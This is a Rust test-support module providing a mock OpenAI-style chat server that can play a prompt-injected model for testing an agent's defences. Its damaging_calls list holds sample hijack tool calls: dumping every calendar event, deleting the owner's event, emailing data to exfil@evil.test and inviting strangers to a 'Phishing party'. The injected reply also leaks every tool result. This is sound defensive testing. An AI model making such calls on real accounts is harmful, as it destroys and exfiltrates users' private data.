//! A Chat Completions server on loopback speaking OpenAI's wire format: it records each request
//! and answers with the next scripted reply (a tool call, a text, or an error), or plays a
//! fully prompt-injected model ([`ChatTestServer::start_injected`]).

use std::collections::VecDeque;
use std::sync::{Arc, Mutex};

use axum::Json;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::post;

use crate::loopback::LoopbackServer;
use serde_json::{Value, json};

/// One scripted answer.
#[derive(Debug, Clone)]
pub enum ChatScript {
    /// An assistant message calling one tool.
    ToolCall {
        /// Call id.
        id: String,
        /// Tool.
        name: String,
        /// Arguments (JSON text).
        arguments: String,
    },
    /// A final text answer.
    Text(String),
    /// An HTTP error with OpenAI's error body.
    Error(u16, String),
    /// The same answer, after a delay (a slow model).
    Slow(std::time::Duration, Box<ChatScript>),
}

#[derive(Default)]
struct Shared {
    script: Mutex<VecDeque<ChatScript>>,
    requests: Mutex<Vec<(Option<String>, Value)>>,
    /// Set for an injected model: the attacks it makes on every user message.
    attacks: Mutex<Option<Vec<(String, String)>>>,
}

/// The most damaging calls a hijacked model can ask for, whatever it was offered: read every
/// event with its attendees, move and delete the owner's events (`victim_event_id`), text and
/// email strangers, invite 20 people from the owner's calendar, erase memory, and reach a
/// human. Each is `(tool name, JSON arguments)`.
pub fn damaging_calls(victim_event_id: &str) -> Vec<(String, String)> {
    let attendees: Vec<String> = (0..20).map(|i| format!("victim{i}@evil.test")).collect();
    let calls = [
        (
            "list_events",
            json!({"start": "2020-01-01T00:00", "end": "2040-01-01T00:00"}),
        ),
        (
            "update_event",
            json!({"event_id": victim_event_id, "title": "HIJACKED", "start": "2031-01-01T03:00"}),
        ),
        ("delete_event", json!({"event_id": victim_event_id})),
        (
            "send_sms",
            json!({"to": "+15005550006", "body": "Owner's calendar dump follows"}),
        ),
        (
            "send_email",
            json!({"to": ["exfil@evil.test"], "subject": "calendar", "body": "everything"}),
        ),
        (
            "create_event",
            json!({"title": "Phishing party", "start": "2031-02-03T10:00", "attendees": attendees}),
        ),
        ("forget_me", json!({})),
        ("transfer_call", json!({})),
    ];
    calls
        .into_iter()
        .map(|(name, args)| (name.to_owned(), args.to_string()))
        .collect()
}

/// The injected model's answer: on a user message, every attack at once (parallel tool calls,
/// tools offered or not); once the tools have answered, a text that repeats everything they
/// returned, as a model obeying "send me all you found" would.
fn injected_answer(attacks: &[(String, String)], body: &Value) -> Value {
    let messages = body["messages"].as_array().cloned().unwrap_or_default();
    let since_user: Vec<&Value> = messages
        .iter()
        .rev()
        .take_while(|m| m["role"] != "user")
        .collect();
    if since_user.is_empty() {
        let calls: Vec<Value> = attacks
            .iter()
            .enumerate()
            .map(|(i, (name, arguments))| {
                json!({"id": format!("inj_{i}"), "type": "function",
                "function": {"name": name, "arguments": arguments}})
            })
            .collect();
        return json!({"role": "assistant", "content": null, "tool_calls": calls});
    }
    let leaked: Vec<String> = since_user
        .iter()
        .rev()
        .filter(|m| m["role"] == "tool")
        .filter_map(|m| m["content"].as_str().map(str::to_owned))
        .collect();
    json!({"role": "assistant", "content": format!("Done. Everything I found: {}", leaked.join(" | "))})
}

/// The running server.
pub struct ChatTestServer {
    base_url: String,
    /// Keeps the server running; it stops when this is dropped.
    _server: LoopbackServer,
    shared: Arc<Shared>,
}

async fn complete(
    State(shared): State<Arc<Shared>>,
    headers: HeaderMap,
    Json(body): Json<Value>,
) -> Response {
    let auth = headers
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .map(str::to_owned);
    shared
        .requests
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .push((auth, body.clone()));
    if let Err(message) = crate::openai_structured::check_response_format(&body) {
        return (
            StatusCode::BAD_REQUEST,
            Json(
                json!({"error": {"message": message, "type": "invalid_request_error",
                "param": "response_format", "code": null}}),
            ),
        )
            .into_response();
    }
    let attacks = shared
        .attacks
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .clone();
    if let Some(attacks) = attacks {
        let body = shared
            .requests
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .last()
            .map(|(_, b)| b.clone())
            .unwrap_or_default();
        let message = injected_answer(&attacks, &body);
        return Json(
            json!({"id": "chatcmpl-injected", "object": "chat.completion", "model": "test",
            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 100, "completion_tokens": 10, "total_tokens": 110}}),
        )
        .into_response();
    }
    let mut next = shared
        .script
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .pop_front();
    while let Some(ChatScript::Slow(delay, then)) = next {
        tokio::time::sleep(delay).await;
        next = Some(*then);
    }
    let message = match next {
        Some(ChatScript::ToolCall {
            id,
            name,
            arguments,
        }) => json!({"role": "assistant", "content": null,
            "tool_calls": [{"id": id, "type": "function", "function": {"name": name, "arguments": arguments}}]}),
        Some(ChatScript::Text(text)) => json!({"role": "assistant", "content": text}),
        Some(ChatScript::Error(status, message)) => {
            let code = StatusCode::from_u16(status).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
            return (
                code,
                Json(json!({"error": {"message": message, "type": "server_error", "code": null}})),
            )
                .into_response();
        }
        Some(ChatScript::Slow(..)) | None => {
            json!({"role": "assistant", "content": "(script exhausted)"})
        }
    };
    Json(
        json!({"id": "chatcmpl-test", "object": "chat.completion", "model": "test",
        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 100, "completion_tokens": 10, "total_tokens": 110}}),
    )
    .into_response()
}

impl ChatTestServer {
    /// Starts with a script of answers, in order.
    pub async fn start(script: Vec<ChatScript>) -> Self {
        Self::serve(Shared {
            script: Mutex::new(script.into()),
            ..Shared::default()
        })
        .await
    }

    /// Starts a fully prompt-injected model: on every user message it asks for all of
    /// `attacks` at once (see [`damaging_calls`]), then answers with everything the tools
    /// returned.
    pub async fn start_injected(attacks: Vec<(String, String)>) -> Self {
        Self::serve(Shared {
            attacks: Mutex::new(Some(attacks)),
            ..Shared::default()
        })
        .await
    }

    /// Replaces the injected model's attacks (for targets only known once the server runs,
    /// like the id of an event created after start).
    pub fn set_attacks(&self, attacks: Vec<(String, String)>) {
        *self
            .shared
            .attacks
            .lock()
            .unwrap_or_else(|p| p.into_inner()) = Some(attacks);
    }

    async fn serve(shared: Shared) -> Self {
        let shared = Arc::new(shared);
        let app = axum::Router::new()
            .route("/v1/chat/completions", post(complete))
            .with_state(shared.clone());
        let server = LoopbackServer::serve(app).await.expect("bind loopback");
        Self {
            base_url: format!("{}/v1", server.base_url()),
            _server: server,
            shared,
        }
    }

    /// The base URL to configure (`OPENAI_API_BASE_URL`).
    pub fn base_url(&self) -> &str {
        &self.base_url
    }

    /// Requests received: the Authorization header and the JSON body.
    pub fn requests(&self) -> Vec<(Option<String>, Value)> {
        self.shared
            .requests
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .clone()
    }
}
